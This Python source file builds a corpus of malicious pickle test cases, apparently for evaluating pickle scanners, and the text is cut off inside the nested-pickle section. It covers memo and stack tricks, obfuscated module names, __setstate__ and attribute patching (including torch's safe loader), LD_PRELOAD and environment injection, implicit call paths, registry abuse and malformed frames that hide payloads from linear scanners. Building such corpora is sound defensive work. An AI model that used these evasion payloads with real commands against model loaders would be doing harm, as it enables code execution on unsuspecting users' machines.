"""Malicious pickles whose trick lies in the *machine*: classes 2-4, 6, 7, 10-15, 17 and 20."""

import base64
import struct
import zlib

from .asm import (
    ADDITEMS,
    APPEND,
    APPENDS,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NONE,
    POP,
    POP_MARK,
    REDUCE,
    SETITEM,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    Raw,
    binbytes8,
    binstring,
    binunicode8,
    build,
    bytearray8,
    call,
    frame,
    g,
    get,
    get_text,
    integer,
    lit,
    newobj,
    newobj_ex,
    proto,
    put,
    put_text,
    red,
    sg,
    short_binstring,
    short_unicode,
    stream,
    string_text,
    whole,
)

TARGET = ("os", "system")
# Takes a command line as os.system does, but stands on few lists.
OBSCURE_TARGET = ("torch.utils.collect_env", "run")
SYSTEM = g("os", "system")
POSIX = g("posix", "system")
RUN = red(SYSTEM, "true")
NAMESPACE = newobj("types.SimpleNamespace")
PY = "__import__('os').system('true')"
# Takes one or two more arguments of any kind after the source, so it also runs where a library hands its callable data.
HOOK = red("functools.partial", g("cProfile", "run"), "import os; os.system('true')")


class _Cases:
    """Numbers the cases of one technique."""

    def __init__(self, corpus, technique, note, file="model.pkl", reach="os.system"):
        self.corpus, self.technique, self.note, self.file, self.reach, self.count = corpus, technique, note, file, reach, 0

    def add(self, name, content, reach="", whole=True, note=None, file=None):
        """`reach` is None where the recording unpickler cannot get there, and the technique's own callable where it is not given."""
        file = file or self.file
        reach = self.reach if reach == "" else reach
        if self.reach != "os.system" and self.reach.rpartition(".")[0].encode() not in content:
            return  # a case in which another callable acts; it is in the technique without the suffix already
        self.corpus.malicious(
            self.technique, f"{self.count:02d}-{name}/{file}", content, "pickle", note or self.note, reach=reach, whole=whole
        )
        self.count += 1


def add(corpus):
    memo(corpus)
    operands(corpus)
    escapes(corpus)
    build_state(corpus)
    implicit_calls(corpus)
    extensions(corpus)
    thrown_away(corpus)
    broken_streams(corpus)
    several_streams(corpus)
    frames(corpus)
    nested(corpus)
    gadget_arguments(corpus)
    resources(corpus)
    build_state(corpus, OBSCURE_TARGET, "-obscure-callable")
    implicit_calls(corpus, OBSCURE_TARGET, "-obscure-callable")
    gadget_arguments(corpus, OBSCURE_TARGET, "-obscure-callable")


def memo(corpus):
    """Class 2."""
    cases = _Cases(corpus, "02-memo-and-stack", "operands come through the memo or through stack shuffling")
    s, m = short_unicode, MEMOIZE
    end = lit("true") + TUPLE1 + REDUCE + STOP
    cases.add("names-from-memo", proto(4) + s("os") + m + POP + s("system") + m + POP + get(0) + get(1) + STACK_GLOBAL + end)
    cases.add("names-swapped", proto(4) + s("system") + m + s("os") + m + POP + POP + get(1) + get(0) + STACK_GLOBAL + end)
    cases.add(
        "overwritten-slot",
        proto(4)
        + s("collections")
        + put(0)
        + POP
        + s("os")
        + put(0)
        + POP
        + s("OrderedDict")
        + put(1)
        + POP
        + s("system")
        + put(1)
        + POP
        + get(0)
        + get(1)
        + STACK_GLOBAL
        + end,
    )
    cases.add(
        "sparse-memoize",
        proto(4) + s("math") + put(5) + POP + s("os") + m + POP + s("system") + m + POP + get(1) + get(2) + STACK_GLOBAL + end,
        note="MEMOIZE numbers by the count of entries, so after PUT 5 comes 1",
    )
    cases.add(
        "memoize-overwrites-put",
        proto(4) + s("collections") + put(1) + POP + s("os") + m + POP + s("system") + put(7) + POP + get(1) + get(7) + STACK_GLOBAL + end,
        note="one entry is there, so MEMOIZE writes slot 1 again",
    )
    cases.add("dup-module", proto(4) + s("os") + DUP + POP + s("system") + STACK_GLOBAL + end)
    cases.add("dup-callable", proto(2) + SYSTEM.ops + DUP + POP + end)
    cases.add("pop-decoys", proto(4) + s("collections") + POP + s("os") + s("OrderedDict") + POP + s("system") + STACK_GLOBAL + end)
    cases.add("pop-mark-decoys", proto(4) + s("os") + MARK + s("a") + s("b") + integer(3) + POP_MARK + s("system") + STACK_GLOBAL + end)
    cases.add("pop-of-mark", proto(4) + s("os") + MARK + POP + s("system") + STACK_GLOBAL + end, note="POP on a bare mark removes the mark")
    cases.add("put-of-put", proto(2) + SYSTEM.ops + put(0) + put(9) + POP + get(9) + put(3) + POP + get(3) + end)
    cases.add("long-binput", proto(2) + SYSTEM.ops + put(300) + POP + get(300) + end)
    cases.add(
        "text-put-get", b"cos\nsystem\n" + put_text(70000) + POP + get_text(70000) + MARK + string_text("true") + TUPLE + REDUCE + STOP
    )
    cases.add("text-get-odd-number", b"cos\nsystem\np1\n0g 1\n(S'true'\ntR.", note="the number is read as int() reads it")
    cases.add("callable-from-memo-in-list", proto(2) + EMPTY_LIST + SYSTEM.ops + put(1) + APPEND + POP + get(1) + end)
    cases.add("args-tuple-from-memo", proto(2) + lit("true") + TUPLE1 + put(4) + POP + SYSTEM.ops + get(4) + REDUCE + STOP)
    cases.add(
        "module-reused-as-data",
        proto(4) + EMPTY_LIST + MARK + s("os") + m + s("system") + m + APPENDS + POP + get(0) + get(1) + STACK_GLOBAL + end,
    )
    cases.add("memo-of-changed-list", proto(2) + EMPTY_LIST + put(0) + MARK + RUN.ops + APPENDS + POP + get(0) + STOP)


def operands(corpus):
    """Class 3."""
    cases = _Cases(corpus, "03-computed-names", "the operands of STACK_GLOBAL are results of calls")
    join = red("builtins.getattr", "", "join")
    attribute = lambda value, name: red("builtins.getattr", value, name)

    def through(module, name="system"):
        return whole(red(Raw(lit(module) + lit(name) + STACK_GLOBAL), "true"), 4)

    cases.add("join", through(red(join, ["o", "s"]), red(join, ["sys", "tem"])))
    cases.add("str-join-unbound", through(red(sg("builtins", "str.join"), "", ("o", "s"))))
    cases.add("replace", through(red(sg("builtins", "str.replace"), "o-s", "-", "")))
    cases.add("format", through(red(sg("builtins", "str.format"), "{1}{0}", "s", "o")))
    cases.add("format-method", through("os", red(attribute("{}tem", "format"), "sys")))
    cases.add("codecs-rot13", through(red("codecs.decode", "bf", "rot13"), red("codecs.decode", "flfgrz", "rot13")))
    cases.add("codecs-hex", through(red("codecs.decode", red("codecs.decode", b"6f73", "hex"), "ascii")))
    cases.add("codecs-escape", through(red("codecs.decode", "\\x6f\\x73", "unicode_escape")))
    cases.add("bytes-decode", through(red(sg("builtins", "bytes.decode"), b"os")))
    cases.add("base64", through(red("codecs.decode", red("base64.b64decode", base64.b64encode(b"os")), "ascii")))
    cases.add("zlib", through(red("codecs.decode", red("zlib.decompress", zlib.compress(b"posix", 9)), "ascii")), reach="posix.system")
    cases.add("dict-get", through(red(sg("builtins", "dict.get"), {"a": "os", "b": "math"}, "a")))
    cases.add("itemgetter", through(red(red("operator.itemgetter", 1), ["math", "os"])))
    cases.add("getitem-slice", through(red("operator.getitem", "so", red("builtins.slice", None, None, -1))))
    cases.add("operator-concat", through(red("operator.concat", "o", "s")))
    cases.add("operator-add", through("os", red("operator.add", "sys", "tem")))
    cases.add("chr", through(red(join, [red("builtins.chr", 111), red("builtins.chr", 115)])))
    cases.add("map-chr", through(red(join, red("builtins.map", g("builtins", "chr"), [111, 115]))))
    cases.add("lower", through(red(sg("builtins", "str.lower"), "OS")))
    cases.add("translate", through(red(sg("builtins", "str.translate"), "xy", {120: "o", 121: "s"})))
    cases.add("str-of-bytes", through(red("builtins.str", b"os", "utf-8")))
    cases.add("reversed-join", through(red(join, red("builtins.reversed", "so"))))
    cases.add(
        "os-name",
        through("os", red("operator.getitem", red("builtins.dir", sg("shutil", "os")), -14)),
        note="dir() of a module gives the name",
        reach=None,
    )
    cases.add(
        "version-text",
        through(red("operator.concat", red("operator.getitem", g("sys", "platform"), 0), "s")),
        reach=None,
        note="the module name depends on a runtime value",
    )
    cases.add(
        "getattr-computed",
        stream("plain4", red(red("builtins.getattr", sg("shutil", "os"), red(join, ["sy", "stem"])), "true")),
        reach="shutil.os",
    )
    cases.add(
        "import-computed",
        stream("bin2", red(red("builtins.getattr", red("builtins.__import__", red(join, ["o", "s"])), "system"), "true")),
        reach="builtins.__import__",
    )


def escapes(corpus):
    """Class 4."""
    cases = _Cases(corpus, "04-string-opcodes", "names and arguments through every kind of string opcode")

    def pair(module, name, argument=b"S'true'\n"):
        return proto(4) + module + name + STACK_GLOBAL + MARK + argument + TUPLE + REDUCE + STOP

    cases.add("string-hex", pair(b"S'\\x6f\\x73'\n", b"S'sys\\x74em'\n"))
    cases.add("string-octal", pair(b"S'\\157\\163'\n", b"S'\\163ystem'\n"))
    cases.add("string-double-quoted", pair(b'S"os"\n', b'S"sys\\x74em"\n'))
    cases.add("unicode-escape", pair(b"V\\u006f\\u0073\n", b"V\\u0073ystem\n"))
    cases.add("unicode-long-escape", pair(b"V\\U0000006fs\n", b"Vsystem\n"))
    cases.add("binstring", pair(binstring(b"os"), short_binstring(b"system")))
    cases.add("binunicode8", pair(binunicode8("os"), binunicode8("system")))
    cases.add("mixed-kinds", pair(short_binstring(b"posix"), b"V\\u0073\\u0079stem\n"), reach="posix.system")
    cases.add("argument-escaped", b"cos\nsystem\n(S'\\x74\\x72\\x75\\x65'\ntR.")
    cases.add("eval-argument-escaped", b"c__builtin__\neval\n(V\\u005f\\u005fimport__('os').system('true')\ntR.", reach="__builtin__.eval")
    cases.add("line-continuation", pair(b"S'o\\x73'\n", b"S's\\171stem'\n"))
    cases.add("global-crlf-free", b"cposix\nsystem\n(U\x04truetR.", reach="posix.system")
    cases.add(
        "long-integers",
        proto(2) + g("os", "kill").ops + b"\x8b\x04\x00\x00\x00\x3f\x42\x0f\x00" + b"\x8a\x00" + TUPLE2 + REDUCE + STOP,
        reach="os.kill",
    )


def build_state(corpus, target=TARGET, suffix=""):
    """Class 6."""
    SYSTEM, MODERN, RUN = g(*target), sg(*target), red(g(*target), "true")
    cases = _Cases(
        corpus,
        "06-build" + suffix,
        "BUILD calls __setstate__, or sets attributes of modules, functions and classes",
        reach=".".join(target),
    )
    space = NAMESPACE
    cases.add("setstate-instance", stream("bin2", Raw(build(space, {"__setstate__": SYSTEM}).ops + lit("true") + BUILD)))
    cases.add(
        "setstate-argparse", stream("plain4", Raw(build(red("argparse.Namespace"), {"__setstate__": MODERN}).ops + lit("true") + BUILD))
    )
    cases.add("setstate-slot-state", stream("bin2", Raw(build(space, (None, {"__setstate__": SYSTEM})).ops + lit("true") + BUILD)))
    cases.add(
        "setstate-on-class",
        stream(
            "bin2",
            Raw(
                build(g("argparse", "Namespace"), (None, {"__setstate__": SYSTEM})).ops
                + POP
                + newobj("argparse.Namespace").ops
                + lit("true")
                + BUILD
            ),
        ),
        whole=False,
    )
    cases.add("setstate-text", b"(iargparse\nNamespace\n(dS'__setstate__'\ncos\nsystem\nsbS'true'\nb.", reach="os.system")
    cases.add(
        "setstate-user-class",
        stream(
            "bin3", Raw(build(newobj("collections.UserDict"), {"data": {}, "__setstate__": g("builtins", "eval")}).ops + lit(PY) + BUILD)
        ),
        reach="builtins.eval",
    )
    cases.add(
        "patch-function-attribute",
        stream("plain4", build(sg("string", "capwords"), (None, {"x": MODERN})), red(sg("string", "capwords.x"), "true")),
    )
    cases.add(
        "patch-numpy-function",
        stream("plain4", build(sg("numpy", "prod"), (None, {"a": sg("posix", "system")})), red(sg("numpy", "prod.a"), "true")),
        reach="posix.system",
    )
    cases.add(
        "patch-module",
        stream("bin2", build(g("torch", "_utils"), {"_rebuild_tensor_v2": SYSTEM}), red("torch._utils._rebuild_tensor_v2", "true")),
        whole=False,
    )
    cases.add(
        "patch-module-slots",
        stream("bin2", build(g("multiprocessing", "util"), (None, {"debug": POSIX})), red("multiprocessing.util.debug", "true")),
        reach="posix.system",
    )
    cases.add(
        "patch-name-for-later",
        stream("plain4", build(sg("json", "decoder"), (None, {"JSONDecoder": sg("os", "popen")}))),
        reach="os.popen",
        note="the program calls it later",
    )
    cases.add(
        "patch-class-call",
        stream(
            "plain4", build(sg("collections", "UserDict"), (None, {"__call__": MODERN})), red(newobj(sg("collections", "UserDict")), "true")
        ),
    )
    cases.add(
        "patch-getitem-of-class",
        stream("plain4", build(sg("argparse", "Namespace"), (None, {"__contains__": MODERN}))),
        note="acts when the program uses `in`",
    )
    cases.add(
        "patch-torch-load-default",
        stream("bin2", build(g("torch", "serialization"), {"_weights_only_unpickler": g("builtins", "eval")})),
        reach="builtins.eval",
        whole=False,
    )
    cases.add(
        "patch-pickle",
        stream("plain4", build(sg("xmlrpc", "client"), {"loads": sg("builtins", "exec")})),
        reach="builtins.exec",
        whole=False,
    )
    cases.add(
        "new-class-setstate", stream("bin3", build(newobj(red("builtins.type", "X", (), {"__setstate__": SYSTEM})), "true")), whole=False
    )
    cases.add(
        "partial-setstate",
        stream("bin2", red(build(newobj("functools.partial", g("builtins", "print")), (SYSTEM, ("true",), {}, {})))),
        note="partial's own __setstate__ replaces the function",
        whole=False,
    )
    cases.add(
        "module-dict-of-package",
        stream("plain4", build(sg("importlib", "machinery"), {"SOURCE_SUFFIXES": [".py", ".txt"]}), RUN),
        reach="importlib.machinery",
        whole=False,
    )


def implicit_calls(corpus, target=TARGET, suffix=""):
    """Class 7."""
    SYSTEM, MODERN, RUN = g(*target), sg(*target), red(g(*target), "true")
    cases = _Cases(corpus, "07-implicit-calls" + suffix, "something other than REDUCE makes the call", reach=".".join(target))
    holder = lambda **attributes: build(NAMESPACE, attributes)
    cases.add("append", stream("bin2", Raw(holder(append=SYSTEM).ops + lit("true") + APPEND)))
    cases.add("appends", stream("bin2", Raw(holder(append=SYSTEM).ops + MARK + lit("true") + lit("echo x") + APPENDS)))
    cases.add(
        "extend",
        stream("bin3", Raw(holder(extend=g("subprocess", "run")).ops + MARK + lit("true") + APPENDS)),
        reach="subprocess.run",
        note="extend gets the list of items",
    )
    cases.add("additems", stream("plain4", Raw(holder(add=MODERN).ops + MARK + lit("true") + ADDITEMS)))
    cases.add("text-append", b"(iargparse\nNamespace\n(dS'append'\ncos\nsystem\nsbS'true'\na.", reach="os.system")
    cases.add(
        "setitem-environ",
        stream("bin2", Raw(g("os", "environ").ops + lit("LD_PRELOAD") + lit("/tmp/weir-eval.so") + SETITEM)),
        reach="os.environ",
        whole=False,
    )
    cases.add(
        "setitems-environ",
        stream(
            "plain4",
            Raw(
                sg("os", "environ").ops
                + MARK
                + lit("PYTHONSTARTUP")
                + lit("/tmp/weir-eval.py")
                + lit("PYTHONPATH")
                + lit("/tmp")
                + SETITEMS
            ),
        ),
        reach="os.environ",
        whole=False,
    )
    cases.add(
        "setitem-sys-modules",
        stream("bin2", Raw(g("sys", "modules").ops + lit("torch._utils") + SYSTEM.ops + SETITEM)),
        reach="sys.modules",
        whole=False,
    )
    cases.add(
        "setitem-builtins",
        stream("plain4", Raw(sg("builtins", "__dict__").ops + lit("len") + MODERN.ops + SETITEM), red("builtins.len", "true")),
        whole=False,
    )
    cases.add("append-sys-path", stream("bin2", Raw(g("sys", "path").ops + lit("/tmp/weir-eval") + APPEND)), reach="sys.path")
    cases.add("append-meta-path", stream("bin3", Raw(g("sys", "meta_path").ops + NAMESPACE.ops + APPEND)), reach="sys.meta_path")
    cases.add("append-path-hooks", stream("bin3", Raw(g("sys", "path_hooks").ops + SYSTEM.ops + APPEND)))
    partial = red("functools.partial", SYSTEM, "true")
    cases.add("defaultdict", stream("bin2", red("operator.getitem", red("collections.defaultdict", partial), "k")))
    cases.add("defaultdict-left", stream("bin2", {"table": red("collections.defaultdict", partial)}), note="acts at the first missing key")
    cases.add("map-list", stream("bin2", red("builtins.list", red("builtins.map", SYSTEM, ["true"]))))
    cases.add("map-dict-fromkeys", stream("plain4", red(sg("builtins", "dict.fromkeys"), red("builtins.map", MODERN, ["true"]))))
    cases.add("map-deque", stream("bin3", red("collections.deque", red("builtins.map", SYSTEM, ["true"]))))
    cases.add("map-counter", stream("bin5", red("collections.Counter", red("builtins.map", MODERN, ["true"]))))
    cases.add("map-set-update", stream("bin5", red(sg("builtins", "set.update"), Raw(EMPTY_SET), red("builtins.map", MODERN, ["true"]))))
    cases.add("map-any", stream("bin2", red("builtins.any", red("builtins.map", SYSTEM, ["true"]))))
    cases.add(
        "map-ordered-dict",
        stream("bin2", red("collections.OrderedDict", red("builtins.zip", ["a"], red("builtins.map", SYSTEM, ["true"])))),
    )
    cases.add("map-numpy-fromiter", stream("bin3", red("numpy.fromiter", red("builtins.map", SYSTEM, ["true"]), "int64")))
    cases.add("map-enumerate", stream("bin2", red("builtins.list", red("builtins.enumerate", red("builtins.map", SYSTEM, ["true"])))))
    cases.add("iter-sentinel", stream("bin2", red("builtins.list", red("builtins.iter", partial, 0))))
    cases.add("filter", stream("bin2", red("builtins.tuple", red("builtins.filter", SYSTEM, ["true"]))))
    cases.add("reduce", stream("bin3", red("functools.reduce", g("os", "putenv"), ["WEIR", "EVAL"])), reach="os.putenv")
    cases.add("sorted-key", stream("plain4", red(newobj_ex("functools.partial", (g("builtins", "sorted"), ["true"]), {"key": SYSTEM}))))
    cases.add(
        "max-key-called", stream("plain4", red(newobj_ex("functools.partial", (g("builtins", "max"), ["true", "x"]), {"key": SYSTEM})))
    )
    cases.add("groupby", stream("bin3", red("builtins.list", red("itertools.groupby", ["true"], SYSTEM))))
    cases.add("finalize", stream("bin2", red("weakref.finalize", red("argparse.Namespace"), SYSTEM, "true")))
    cases.add("atexit", stream("bin2", red("atexit.register", SYSTEM, "true")))
    cases.add("thread", stream("bin2", red("_thread.start_new_thread", SYSTEM, ("true",))))
    cases.add("timer", stream("plain4", red(sg("threading", "Timer.start"), red("threading.Timer", 0, SYSTEM, ["true"]))))
    cases.add("thread-run", stream("plain4", red(sg("threading", "Thread.run"), red("threading.Thread", None, SYSTEM, None, ("true",)))))
    cases.add(
        "pool-map",
        stream("plain4", red(sg("multiprocessing.pool", "ThreadPool.map"), red("multiprocessing.pool.ThreadPool", 1), MODERN, ["true"])),
    )
    cases.add(
        "executor",
        stream(
            "plain4",
            red(sg("concurrent.futures", "ThreadPoolExecutor.submit"), red("concurrent.futures.ThreadPoolExecutor", 1), MODERN, "true"),
        ),
    )
    cases.add(
        "del-of-new-class",
        stream("bin3", red(red("builtins.type", "X", (), {"__del__": red("functools.partial", SYSTEM, "true")})), last=POP + NONE),
    )
    key = red(red("builtins.type", "K", (), {"__hash__": red("functools.partial", SYSTEM, "true")}))
    cases.add("hash-of-key", stream("bin2", Raw(EMPTY_DICT + key.ops + integer(1) + SETITEM)))
    cases.add("hash-in-set", stream("plain4", Raw(EMPTY_SET + MARK + key.ops + ADDITEMS)))
    cases.add(
        "init-subclass",
        stream(
            "bin3",
            red("types.new_class", "Y", (red("builtins.type", "B", (), {"__init_subclass__": red("functools.partial", SYSTEM, "true")}),)),
        ),
    )
    cases.add(
        "cmp-to-key",
        stream(
            "bin3",
            red(
                newobj_ex(
                    "functools.partial",
                    (g("builtins", "sorted"), ["WEIR", "EVAL"]),
                    {"key": red("functools.cmp_to_key", g("os", "putenv"))},
                )
            ),
        ),
        reach="os.putenv",
    )
    cases.add("lru-cache", stream("bin2", red(red(red("functools.lru_cache", 1), SYSTEM), "true")))
    cases.add(
        "setattr-for-later",
        stream("bin2", red("builtins.setattr", g("shutil", "os"), "getcwd", newobj("functools.partial", SYSTEM, "true"))),
    )
    cases.add(
        "contextlib-callback", stream("plain4", red(sg("contextlib", "ExitStack.callback"), red("contextlib.ExitStack"), MODERN, "true"))
    )
    cases.add("sched", stream("plain4", red(sg("sched", "scheduler.enter"), red("sched.scheduler"), 0, 1, MODERN, ("true",))))


def extensions(corpus):
    """Class 10."""
    cases = _Cases(corpus, "10-extension-registry", "the extension registry is filled in the same stream")

    def add_extension(code):
        return red("copyreg.add_extension", "os", "system", code).ops + POP

    tail = lit("true") + TUPLE1 + REDUCE + STOP
    cases.add("ext1", proto(2) + add_extension(0x7A) + b"\x82\x7a" + tail, reach="copyreg.add_extension", whole=False)
    cases.add("ext2", proto(2) + add_extension(0x1234) + b"\x83\x34\x12" + tail, reach="copyreg.add_extension", whole=False)
    cases.add("ext4", proto(2) + add_extension(0x123456) + b"\x84\x56\x34\x12\x00" + tail, reach="copyreg.add_extension", whole=False)
    cases.add(
        "ext1-py2-name",
        proto(2) + red("copy_reg.add_extension", "posix", "system", 9).ops + POP + b"\x82\x09" + tail,
        reach="copy_reg.add_extension",
        whole=False,
    )
    cases.add(
        "cache",
        proto(4) + sg("copyreg", "_extension_cache").ops + integer(77) + sg("os", "system").ops + SETITEM + POP + b"\x82\x4d" + tail,
        reach="copyreg._extension_cache",
        whole=False,
    )
    cases.add(
        "inverted-registry",
        proto(4) + sg("copyreg", "_inverted_registry").ops + integer(78) + lit(("os", "system")) + SETITEM + POP + b"\x82\x4e" + tail,
        reach="copyreg._inverted_registry",
        whole=False,
    )
    cases.add(
        "update-cache",
        proto(4) + red(sg("copyreg", "_extension_cache.update"), {80: sg("os", "system")}).ops + POP + b"\x82\x50" + tail,
        reach="copyreg._extension_cache.update",
        whole=False,
    )
    cases.add(
        "only-registered",
        stream("bin2", red("copyreg.add_extension", "os", "system", 81), {"a": 1}),
        reach="copyreg.add_extension",
        note="prepares the registry for the next file",
    )
    cases.add(
        "dispatch-table",
        stream("bin2", red("copyreg.pickle", g("builtins", "dict"), SYSTEM)),
        note="copyreg.pickle makes every later dump call it",
    )


def thrown_away(corpus):
    """Class 11."""
    cases = _Cases(corpus, "11-result-discarded", "the call is made, its value never seen")
    cases.add("pop", proto(2) + RUN.ops + POP + lit({"epoch": 3}) + STOP)
    cases.add("pop-mark", proto(2) + lit([1]) + MARK + RUN.ops + integer(2) + POP_MARK + STOP)
    cases.add("left-on-stack", proto(2) + RUN.ops + lit([1, 2]) + STOP, note="more than one object is left; STOP takes the top")
    cases.add("dict-key", proto(2) + lit({RUN: 1}) + STOP)
    cases.add("set-member", proto(4) + EMPTY_SET + MARK + RUN.ops + ADDITEMS + STOP)
    cases.add("frozenset-member", proto(4) + MARK + RUN.ops + b"\x91" + STOP)
    cases.add("persistent-id", proto(2) + lit([]) + POP + RUN.ops + POP + NONE + STOP)
    cases.add("in-persistent-id", proto(2) + lit(("storage", RUN, "0", "cpu", 4)) + POP + integer(1) + STOP)
    cases.add("nested-500", proto(2) + EMPTY_LIST * 500 + RUN.ops + APPEND * 500 + STOP)
    cases.add("nested-tuples-3000", proto(2) + RUN.ops + TUPLE1 * 3000 + STOP)
    cases.add("nested-marks-800", proto(2) + MARK * 800 + RUN.ops + TUPLE * 800 + STOP)
    cases.add(
        "late-after-data", proto(2) + lit([[index, f"row {index}", index / 7] for index in range(20000)]) + MARK + RUN.ops + APPENDS + STOP
    )
    cases.add("state-of-ordinary-object", proto(2) + build(newobj("argparse.Namespace"), {"lr": 0.1, "hook": RUN}).ops + STOP)
    cases.add("kwargs-of-partial", proto(2) + red("functools.partial", g("builtins", "print"), RUN).ops + STOP)
    cases.add("memo-only", proto(4) + RUN.ops + MEMOIZE + POP + lit("done") + STOP)
    cases.add("argument-of-safe-call", proto(2) + red("collections.OrderedDict", [("a", RUN)]).ops + STOP)


def broken_streams(corpus):
    """Class 12: the call has been made when the unpickler fails."""
    cases = _Cases(corpus, "12-then-broken", "the payload runs, then the stream breaks off")
    head = proto(2) + RUN.ops
    rows = [
        ("eof", b""),
        ("unknown-opcode", b"\xff\xff."),
        ("zero-opcode", b"\x00\x00"),
        ("stack-underflow", POP + POP + POP + STOP),
        ("reduce-on-int", integer(1) + EMPTY_TUPLE + REDUCE + STOP),
        ("bad-memo", get(200) + STOP),
        ("bad-memo-text", b"gx\n."),
        ("cut-string", b"X\xff\x00\x00\x00abc"),
        ("cut-global", b"cos\nsys"),
        ("bad-utf8", b"X\x02\x00\x00\x00\xff\xfe."),
        ("negative-length", b"T\xff\xff\xff\xff."),
        ("proto-9", proto(9) + STOP),
        ("cut-frame", b"\x95\x00\x01\x00\x00\x00\x00\x00\x00N."),
        ("build-on-none", NONE + lit({"a": 1}) + BUILD + STOP),
        ("append-on-int", integer(1) + integer(2) + APPEND + STOP),
        ("setitem-on-tuple", EMPTY_TUPLE + integer(1) + integer(2) + SETITEM + STOP),
        ("no-mark", TUPLE + STOP),
        ("missing-module", g("weir_eval_absent", "x").ops + STOP),
        ("bad-int", b"Ixyz\n."),
        ("unquoted-string", b"Sabc\n."),
        ("unhashable-key", EMPTY_DICT + EMPTY_LIST + integer(1) + SETITEM + STOP),
        ("huge-long", b"\x8b\xff\xff\xff\x7fabc"),
        ("text-tail", b"\nThis is not a pickle any more.\n"),
        ("persid", b"Px\n."),
    ]
    for index, (name, tail) in enumerate(rows):
        if index % 4 == 1:
            content = proto(4) + frame(RUN.ops + POP)[:] + tail
        elif index % 4 == 3:
            content = b"cos\nsystem\n(S'true'\ntR" + tail
        else:
            content = head + tail
        cases.add(name, content, whole=False)
    cases.add("string-huge-8-bytes", head + b"\x8d" + struct.pack("<Q", 2**62) + b"x", whole=False)


def several_streams(corpus):
    """Class 13."""
    cases = _Cases(
        corpus,
        "13-several-streams",
        "the payload is not in the first stream (the usual loop `while True: pickle.load(f)`, torch's five pickles)",
    )
    benign = stream("bin2", {"epoch": 1})
    payload = whole(RUN, "bin2")
    cases.add("second", benign + payload, reach=None)
    cases.add("two-hundred-first", benign * 200 + payload, reach=None)
    cases.add("after-protocol-0", b"(lp0\nI1\na." + b"cos\nsystem\n(S'true'\ntR.", reach=None)
    cases.add(
        "mixed-protocols",
        stream("text0", [1]) + stream("bin3", [1]) + stream("framed4", [1]) + stream("framed4", call("framed4", "os.system", "true")),
        reach=None,
    )
    cases.add(
        "proto-opcode-between", proto(2) + proto(4) + integer(1) + POP + proto(0) + RUN.ops + STOP, note="PROTO may come again in a stream"
    )
    cases.add("after-none", b"N." + payload, reach=None)
    cases.add("payload-then-benign", payload + benign * 3)
    cases.add("thousand", b"K\x01." * 1000 + payload, reach=None)
    cases.add("protocol-2-after-5", stream("bin5", {"a": [1.0] * 50}) + whole(red("builtins.eval", PY), "bin2"), reach=None)
    cases.add("dotless-second", stream("bin2", "first") + b"(S'true'\nios\nsystem\n.", reach=None)


def frames(corpus):
    """Class 14. The C unpickler only checks that a frame's bytes are there. Where an operand crosses the end of a frame, it reads on from a file,
    but from a BytesIO (as torch.load does) it drops the rest of the frame and takes the whole operand after it."""
    cases = _Cases(corpus, "14-frames", "frames that do not fit; the C unpickler does not mind")
    body = call("plain4", "os.system", "true").ops + STOP
    of_length = lambda data, length: b"\x95" + struct.pack("<Q", length) + data
    cases.add("argument-crosses", proto(4) + of_length(body, body.index(b"true") + 2))
    cases.add("name-crosses", proto(4) + of_length(body, body.index(b"system") + 3))
    cases.add("boundary-between-opcodes", proto(4) + of_length(body, body.index(b"true") - 5))
    cases.add("frame-of-one-byte", proto(4) + of_length(body, 4))
    cases.add("frame-of-zero", proto(4) + of_length(body, 0))
    cases.add("frame-in-frame", proto(4) + of_length(integer(1) + POP + of_length(body, len(body)), len(body) + 12))
    cases.add("frame-beyond-outer", proto(4) + of_length(of_length(body, len(body)), 9))
    cases.add("two-frames-then-loose", proto(4) + frame(integer(7) + POP) + frame(integer(8) + POP) + body)
    cases.add("frame-in-protocol-2", proto(2) + frame(RUN.ops + STOP))
    cases.add("frame-without-proto", frame(body))
    cases.add(
        "frames-per-opcode",
        proto(4)
        + b"".join(frame(part) for part in (short_unicode("os"), short_unicode("system"), STACK_GLOBAL, lit("true"), TUPLE1, REDUCE, STOP)),
    )
    cases.add("frame-after-stop", proto(4) + of_length(body + b"\x00" * 30, len(body) + 30))
    hidden = RUN.ops + STOP
    for name, opener in (("hidden-in-unicode", b"X"), ("hidden-in-bytes", b"B")):
        swallow = opener + struct.pack("<I", len(hidden))
        operand = 40
        inside = b"\x8c" + bytes([operand]) + b"l" * len(swallow)
        content = proto(4) + frame(inside) + b"a" * (operand - len(swallow)) + swallow + hidden + TUPLE2 + STOP
        cases.add(name, content, whole=False, note="a linear reader takes the payload for a string; the C unpickler on a BytesIO runs it")
    packed = hidden + b"." * 3
    swallow = b"U" + bytes([len(packed)])
    cases.add(
        "hidden-in-binstring",
        proto(4) + frame(b"\x8c\x20" + b"w" * 2) + b"b" * 30 + swallow + packed + TUPLE2 + STOP,
        whole=False,
        note="a linear reader takes the payload for a string; the C unpickler on a BytesIO runs it",
    )


def nested(corpus):
    """Class 15."""
    cases = _Cases(corpus, "15-nested-pickles", "bytes handed to a loader are a pickle themselves")
    inner = [
        stream("text0", call("text0", "os.system", "true")),
        stream("bin2", call("bin2", "builtins.eval", PY)),
        stream("framed4", call("framed4", "subprocess.call", ["true"])),
        stream("bin5", call("bin5", "posix.system", "id")),
    ]
    rows = [
        ("pickle-loads", lambda data: red("pickle.loads", data)),
        ("c-pickle-loads", lambda data: red("_pickle.loads", data)),
        ("py2-cpickle", lambda data: red("cPickle.loads", data)),
        ("torch-load-from-bytes", lambda data: red("torch.storage._load_from_bytes", data)),
        ("grammar-loads", lambda data: red(sg("lib2to3.pgen2.grammar", "Grammar.loads"), NAMESPACE, data)),
        ("forking-pickler", lambda data: red(sg("multiprocessing.reduction", "ForkingPickler.loads"), data)),
        ("reduction-pickle", lambda data: red(sg("multiprocessing", "reduction.pickle.loads"), data)),
        ("dill", lambda data: red("dill.loads", data)),
        ("cloudpickle", lambda data: red("cloudpickle.loads", data)),
        ("joblib-bytesio", lambda data: red("joblib.load", red("io.BytesIO", data))),
        ("numpy-bytesio", lambda data: red("numpy.load", red("_io.BytesIO", data), None, True)),
        ("pandas-bytesio", lambda data: red("pandas.read_pickle", red("io.BytesIO", data))),
        ("unpickler-load", lambda data: red(sg("pickle", "Unpickler.load"), red("pickle.Unpickler", red("io.BytesIO", data)))),
        ("py-loads", lambda data: red("pickle._loads", data)),
        ("base64", lambda data: red("pickle.loads", red("base64.b64decode", base64.b64encode(data)))),
